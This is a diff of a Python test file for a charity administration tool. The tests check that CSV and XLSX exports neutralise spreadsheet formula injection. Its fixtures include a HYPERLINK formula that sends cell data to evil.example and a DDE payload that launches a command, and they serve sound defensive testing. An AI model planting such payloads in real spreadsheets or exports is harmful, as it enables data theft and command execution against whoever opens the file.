@@ -19,7 +19,7 @@ from sqlalchemy.orm import Session
 
 from anbi.core.csvfile import read_csv
 from anbi.core.spreadsheet import csv_text, from_csv_text
-from tests.factories import make_agreement, make_campaign, make_donation, make_donor
+from tests.factories import active_sheet, make_agreement, make_campaign, make_donation, make_donor
 
 NAME = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
 CITY = "+cmd|' /C calc'!A0"
@@ -107,6 +107,7 @@ def test_export_xlsx_writes_hostile_text_as_strings_and_numbers_as_numbers(cli, 
         out = tmp_path / f"{what}.xlsx"
         assert cli("export", what, "--format", "xlsx", "--out", str(out)).exit_code == 0
         sheet = openpyxl.load_workbook(out).active
+        assert sheet is not None
         cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value is not None]
         assert not [c.coordinate for c in cells if c.data_type == "f"], what
         texts = {c.value for c in cells if c.data_type == "s"}
@@ -130,7 +131,7 @@ def test_grants_export_writes_a_hostile_title_as_text(cli, engine, tmp_path, ses
     assert dict(zip(header, row))["title"] == "'=HYPERLINK(1)" and dict(zip(header, row))["reference"] == "'=G-1"
     out = tmp_path / "grants.xlsx"
     assert cli("export", "grants", "--format", "xlsx", "--out", str(out)).exit_code == 0
-    sheet = openpyxl.load_workbook(out).active
+    sheet = active_sheet(out)
     assert [(c.value, c.data_type) for c in sheet[2][:2]] == [("=G-1", "s"), ("=HYPERLINK(1)", "s")]
 
 
@@ -181,7 +182,7 @@ def test_income_statement_xlsx_keeps_a_hostile_organisation_name_as_text(tmp_pat
 
     path = tmp_path / "income.xlsx"
     write_xlsx(path, 2025, IncomeStatement(2025), IncomeStatement(2024), organisation="=cmd")
-    cell = openpyxl.load_workbook(path).active["A1"]
+    cell = active_sheet(path)["A1"]
     assert (cell.value, cell.data_type) == ("Staat van baten 2025 — =cmd", "s")
 
 
